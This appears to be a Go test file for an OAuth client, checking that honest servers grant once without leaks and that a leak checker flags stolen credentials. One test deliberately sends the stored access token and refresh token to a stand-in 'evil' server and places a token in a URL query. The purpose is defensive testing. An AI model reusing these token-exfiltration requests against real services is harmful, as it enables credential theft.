package hostile_test

import (
	"encoding/base64"
	"net/http"
	"strings"
	"testing"
)

// TestHonestWorld: the honest servers and the client side work together:
// one authorization, a refresh after expiry, no leaks.
func TestHonestWorld(t *testing.T) {
	w := newWorld(t)
	w.login(t)
	w.as.expire()
	w.c.mustCall()
	if ig, _ := w.as.counts(); ig != 0 {
		t.Errorf("invalid grants: %d", ig)
	}
	if n := w.as.Hits("/authorize"); n != 1 {
		t.Errorf("authorizations: %d", n)
	}
	w.evil.wantUntouched(t)
	w.c.wantNoDNS()
	if len(w.c.spy.Secrets()) < 5 {
		t.Errorf("secrets harvested: %v", len(w.c.spy.Secrets()))
	}
}

// TestLeakCheckerCatches: the leak check itself notices a token sent to a
// wrong origin, a code sent to a wrong endpoint and a token in a URL.
func TestLeakCheckerCatches(t *testing.T) {
	w := newWorld(t)
	w.login(t)
	tok := w.c.stored().Tokens
	send := func(method, u, auth, body string) {
		req, _ := http.NewRequest(method, u, strings.NewReader(body))
		if auth != "" {
			req.Header.Set("Authorization", auth)
		}
		resp, err := w.c.spy.RoundTrip(req)
		if err == nil {
			resp.Body.Close()
		}
	}
	send("GET", w.evil.URL+"/x", "Bearer "+tok.AccessToken, "")
	send("GET", w.rs.mcpURL+"?access_token="+tok.AccessToken, "", "")
	send("POST", w.evil.URL+"/token", "", "grant_type=refresh_token&refresh_token="+tok.RefreshToken)
	send("POST", w.as.tokenURL(), "Basic "+base64.StdEncoding.EncodeToString([]byte("x:"+tok.RefreshToken)), "")
	leaks := w.c.leaks()
	if len(leaks) != 3 {
		t.Errorf("leak check found %d leaks, want 3 (token to evil, token in URL, refresh token to evil): %v", len(leaks), leaks)
	}
	// Forget what was just sent so the cleanup check passes.
	w.c.spy.mu.Lock()
	w.c.spy.reqs = nil
	w.c.spy.mu.Unlock()
}
